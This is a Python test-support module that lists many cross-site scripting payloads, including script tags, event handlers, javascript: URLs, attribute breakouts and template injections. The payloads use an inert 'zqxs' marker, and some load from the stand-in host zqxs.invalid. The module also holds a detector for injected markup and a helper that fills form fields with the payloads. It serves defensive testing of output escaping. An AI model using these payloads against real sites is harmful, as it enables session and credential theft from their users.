"""Texts that a page must never take for anything but text, and finding in a page what was taken for more."""

from __future__ import annotations

import html
import re
from collections.abc import Iterator

from selectolax.lexbor import LexborHTMLParser

MARK = "zqxs"
"""Stands in every payload, so that what came of it is told from what is the page's own."""
ELEMENTS = (
    "<script>zqxs()</script>", "<ScRiPt>zqxs()</sCrIpT>", "<script/src=//zqxs.invalid>", "<script\n>zqxs()</script >",
    "<script x='>'>zqxs()</script>", "<<script>zqxs()//<</script>", "<zqxs/onclick=zqxs()>x",
    "</script><script>zqxs()</script>", "</title><script>zqxs()</script>", "</textarea><script>zqxs()</script>",
    "</style><script>zqxs()</script>", "</option></select><script>zqxs()//", "--><script>zqxs()</script>",
    "]]><script>zqxs()</script>", "<svg><script>zqxs()</script></svg>", "<math><mtext><script>zqxs()</script>",
    "<img src=x onerror=zqxs()>", "<img/src='x'/onerror=zqxs()>", "<IMG SRC=x ONERROR=zqxs()>",
    "<img src='x'onerror=zqxs()>", "<svg onload=zqxs()>", "<svg/onload=zqxs()>", "<body onload=zqxs()>",
    "<a autofocus onfocus=zqxs()>x", "<input autofocus onfocus=zqxs()>", "<select onfocus=zqxs() autofocus>",
    "<details open ontoggle=zqxs()>", "<video><source onerror=zqxs()>", "<audio src onloadstart=zqxs()>",
    "<marquee onstart=zqxs()>", "<p onmouseover=zqxs()>x</p>", "<p onclick\n=zqxs()>x", "<a onclick=zqxs()>x",
    "<iframe src=javascript:zqxs()>", "<iframe srcdoc='zqxs'>", "<object data=javascript:zqxs()>",
    "<embed src=//zqxs.invalid>", "<base href=//zqxs.invalid/>", "<meta http-equiv=refresh content=0;zqxs>",
    "<link rel=stylesheet href=//zqxs.invalid>", "<style>@import'//zqxs.invalid'</style>",
    "<form action=javascript:zqxs()>", "<button formaction=javascript:zqxs()>", "<a href=javascript:zqxs()>x</a>",
    "<a href=' javascript:zqxs()'>x</a>", "<a href=java&#09;script:zqxs()>x</a>", "<a href=vbscript:zqxs()>x</a>",
    "<a href=data:text/html,zqxs>x</a>", "<svg><a xlink:href=javascript:zqxs()>x", "<zqxs>x</zqxs>",
    "<p hx-get=//zqxs.invalid hx-trigger=load>", "<p data-hx-on:load=zqxs()>", "</noscript><img src=x onerror=zqxs()>",
)  # fmt: skip
ATTRIBUTES = (
    '"><script>zqxs()</script>', "'><script>zqxs()</script>", '" onmouseover="zqxs()', "' onmouseover='zqxs()",
    '" autofocus onfocus="zqxs()', '"zqxs="', "'zqxs='", '"/onclick="zqxs()', '" style="zqxs:x', '">\n<svg onload=zqxs()>',
    "'>\"><img src=x onerror=zqxs()>", '" href="javascript:zqxs()" x="',
)  # fmt: skip
ADDRESSES = (
    "javascript:zqxs()", "JaVaScRiPt:zqxs()", " javascript:zqxs()", "java\tscript:zqxs()", "vbscript:zqxs()",
    "data:text/html,<b>zqxs", "javascript://zqxs.cn/%0azqxs()", "java\nscript:zqxs()",
)  # fmt: skip
CODES = ("';zqxs();//", '";zqxs();//', "{{zqxs}}", "{% include zqxs %}", "${zqxs}", "\\u003cscript\\u003ezqxs()")
PAYLOADS = (*ELEMENTS, *ATTRIBUTES, *ADDRESSES, *CODES)
"""For the text of a page, for the value of an attribute, for an address, and for a script or a template."""

_ADDRESSED = ("href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcset", "cite")
_NEVER = frozenset(
    {"iframe", "object", "embed", "base", "style", "marquee", "applet", "frame", "frameset", "math"}
)  # fmt: skip
_FORBIDDEN = re.compile(r"(?:javascript|vbscript|data(?!:image/(?:png|svg\+xml)))\s*:")
_IGNORED = re.compile(r"[\x00-\x20]")


def found(page: str) -> Iterator[str]:
    """Everything in a page that is more than text and not one of the platform's own elements."""
    for node in LexborHTMLParser(page).css("*"):
        tag, attributes = (
            str(node.tag).lower(),
            {name.lower(): value or "" for name, value in node.attributes.items()},
        )
        if tag in _NEVER or MARK in tag:
            yield f"<{tag}>"
        if tag == "script" and (not attributes.get("src", "").startswith("/static/") or node.text(strip=True)):
            yield f"<script {attributes}>"
        if tag == "link" and MARK in attributes.get("href", ""):
            yield f"<link {attributes}>"
        if tag == "meta" and "http-equiv" in attributes and not attributes.get("content", "").isdigit():
            yield f"<meta {attributes}>"
        for name, value in attributes.items():
            if name.startswith("on") or name == "srcdoc" or MARK in name:
                yield f"<{tag} {name}={value!r}>"
            if MARK in value and (name == "style" or name.removeprefix("data-").startswith("hx-")):
                yield f"<{tag} {name}={value!r}>"
            if name in _ADDRESSED and _FORBIDDEN.match(_IGNORED.sub("", value).lower()):
                yield f"<{tag} {name}={value!r}>"


def shown(page: str) -> Iterator[str]:
    """The payloads that a page shows as text or holds in attributes."""
    read = html.unescape(page)
    return (payload for payload in PAYLOADS if payload in read)


def filling(longest: int, turn: int, *, plain: bool = False) -> str:
    """As many payloads as a field of a length holds, beginning with the one whose turn it is; `plain` without line breaks."""
    room, taken = longest, []
    for at in range(len(PAYLOADS)):
        payload = PAYLOADS[(turn + at) % len(PAYLOADS)]
        if len(payload) + 1 > room:
            break
        taken.append(payload)
        room -= len(payload) + 1
    text = " ".join(taken) or PAYLOADS[turn % len(PAYLOADS)][:longest]
    return " ".join(text.split()) if plain else text
